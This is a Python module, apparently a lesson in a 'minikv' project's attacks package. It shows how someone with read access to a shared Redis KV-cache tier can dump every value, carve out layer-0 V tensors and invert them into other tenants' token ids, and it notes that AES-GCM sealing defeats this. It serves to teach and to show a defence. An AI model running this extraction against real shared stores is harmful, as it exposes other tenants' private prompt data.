"""A reader of a shared KV store: dump every value, carve out layer-0 V, invert it (lesson 05, one level down).

Whoever can read the Redis behind a KV tier (an operator of another service on the same
instance, a backup, a stolen snapshot) holds every tenant's K/V.  minikv's value format is public
(:mod:`minikv.security.sealing`): a 5-byte header, then in the clear (UNSAFE
``kv_tier_encrypt=False``) a 32-byte MAC, the writer's 12-byte tag and the body, which *is* the block, ``[layers, block_size, 2, kv_heads,
head_dim]``; layer 0's V slots are its first ``block_size`` rows of V, and
:func:`~minikv.attacks.kv_inversion.invert_layer0` turns them into token ids.  Sealed with
AES-GCM the header is followed by a 12-byte nonce and the ciphertext: the same carving yields
noise that matches no token.  The reader tries both offsets (past the MAC, and past the nonce)
so it does not rely on knowing which setting was used.
"""
from __future__ import annotations

import torch

from .kv_inversion import NO_TOKEN, Layer0Table, invert_layer0

__all__ = ["dump_store", "layer0_v_from_values", "tokens_in_dump"]

HEADER = 5  # magic + flag (sealing._FLAGS)
WRITER = 12  # the payload's head: the writer's tenant tag (minikv.tiers.link.WRITER), then the block
OFFSETS = (HEADER + 32 + WRITER, HEADER + 12 + WRITER)  # the cleartext block, past MAC and writer; the ciphertext


def dump_store(client, pattern: bytes = b"*") -> list[bytes]:
    """Every value in the store (what ``redis-cli --rdb`` or a KEYS/GET loop hands a reader)."""
    return [v for k in client.scan_iter(match=pattern, count=1000) if (v := client.get(k)) is not None]


def layer0_v_from_values(values, geometry: tuple[int, int, int, int], dtype: torch.dtype) -> torch.Tensor:
    """Layer-0 V slots ``[N, kv_heads, head_dim]`` carved from each value at each offset."""
    layers, bs, heads, dim = geometry
    size = torch.empty((), dtype=dtype).element_size()
    block = layers * bs * 2 * heads * dim * size
    out = []
    for value in values:
        for off in OFFSETS:
            body = value[off:off + block]
            if len(body) < block:
                continue
            kv = torch.frombuffer(bytearray(body), dtype=torch.uint8).view(dtype).view(layers, bs, 2, heads, dim)
            out.append(kv[0, :, 1].float())
    return torch.cat(out) if out else torch.zeros((0, heads, dim))


def tokens_in_dump(values, geometry, dtype, table: Layer0Table) -> set[int]:
    """The token ids a dump gives away (inverted layer-0 V slots that match a vocabulary row)."""
    slots = layer0_v_from_values(values, geometry, dtype)
    slots = torch.nan_to_num(slots, nan=0.0, posinf=0.0, neginf=0.0)  # ciphertext read as floats
    ids = invert_layer0(slots, table, "v") if len(slots) else torch.zeros(0, dtype=torch.long)
    return {int(t) for t in ids if int(t) != NO_TOKEN}
